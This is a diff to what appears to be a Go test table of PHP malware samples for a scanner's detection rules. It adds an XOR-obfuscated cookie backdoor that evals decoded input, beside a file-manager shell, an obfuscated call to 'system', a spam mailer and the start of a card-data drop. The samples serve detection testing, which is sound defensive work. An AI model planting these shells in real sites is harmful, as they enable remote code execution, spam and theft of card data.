@@ -80,6 +80,8 @@ var probes = []struct{ name, rule, src string }{
 		if (isset($_GET['read'])) readfile($_GET['read']); chmod($_POST['p'], 0777); rename($_POST['a'], $_POST['b']);`},
 	{"computed GLOBALS store", "php.exec-input", `<?php $GLOBALS['t'] = "abcdefghijklmnopqrstuvwxyz_"; $GLOBALS[$GLOBALS['t'][5].$GLOBALS['t'][6]] = $GLOBALS['t'][18].$GLOBALS['t'][24].$GLOBALS['t'][18].$GLOBALS['t'][19].$GLOBALS['t'][4].$GLOBALS['t'][12];
 		$GLOBALS[$GLOBALS['t'][5].$GLOBALS['t'][6]]($_POST['c']);`},
+	{"xor decoder of a cookie", "php.exec-input", `<?php function x($s, $k) { $r = ""; for ($i = 0; $i < strlen($s); $i++) { $r .= chr(ord($s[$i]) ^ ord($k[$i % strlen($k)])); } return $r; }
+		$q = NULL; foreach ($_COOKIE as $n => $v) { $q = $v; } $q = @unserialize(x(base64_decode($q), $n)); if (isset($q['k'])) { eval($q['d']); }`},
 	{"spam mailer", "php.mailer", `<?php $to = explode("\n", $_POST['emails']); $h = "From: " . $_POST['from'] . "\r\n";
 		for ($i = 0; $i < count($to); $i++) { mail($to[$i], $_POST['subject'], stripslashes($_POST['body']), $h); }`},
 	{"concealed drop", "php.mail-drop", `<?php $m = "Card: " . $_POST['cc'] . " CVV: " . $_POST['cvv'];
